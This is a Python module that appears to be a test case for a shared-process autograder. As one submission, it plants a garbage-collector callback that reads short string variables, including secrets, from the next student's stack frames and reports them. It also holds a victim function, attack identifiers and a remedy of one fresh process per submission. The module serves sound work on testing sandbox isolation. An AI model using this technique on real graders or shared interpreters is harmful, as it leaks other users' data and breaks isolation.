# SPDX-License-Identifier: MIT
"""Goal:  what the next student's program has in its variables.
Means: gc.callbacks. The garbage collector calls them in the midst of whatever allocates too much,
       which is the next student's own code; the frame below is its frame. Neither a profile nor a
       trace function is set, and no builtin is changed.
"""

import gc
import sys

from attack import DONE, attempting, denied, honest, loot, submit

SHORT = 64  # characters: names, numbers and secrets, not whole texts


def collector_spy(getframe=sys._getframe, short=SHORT):
    def overhear(phase, info):
        frame = getframe(1)
        while frame:
            for value in frame.f_locals.values():
                if isinstance(value, str) and len(value) <= short:
                    overhear.seen.add(value)
            frame = frame.f_back

    overhear.seen = set()
    return overhear


def run(brief):
    submit("0")
    if not brief.again:
        attempting()
        gc.callbacks.append(collector_spy())
        return DONE
    spies = [call for call in gc.callbacks if hasattr(call, "seen")]
    if not spies:
        return denied("gc.callbacks", "nobody was overheard")
    gc.callbacks.remove(spies[0])
    loot(repr(spies[0].seen))
    return DONE


def victim(brief):
    """Has its work in a variable, and makes enough objects that the collector has to come."""
    work = brief.secret
    pairs = [[letter, number] for number in range(200) for letter in work]
    return honest(brief) if pairs else None


ATTACK = {
    "effect": "the next student's variables are read",
    "means": "a function in gc.callbacks, which runs amid the next student's frames",
    "oracle": "secret:victim",
    "scene": "before-victim",
    "grader": "rpc",
    "control": "in-process",
    "attack_id": "T1056, CWE-913",
    "remedy": "a process of its own for each submission, started fresh",
    "refs": ["gc.callbacks"],
    "run": run,
    "victim": victim,
}
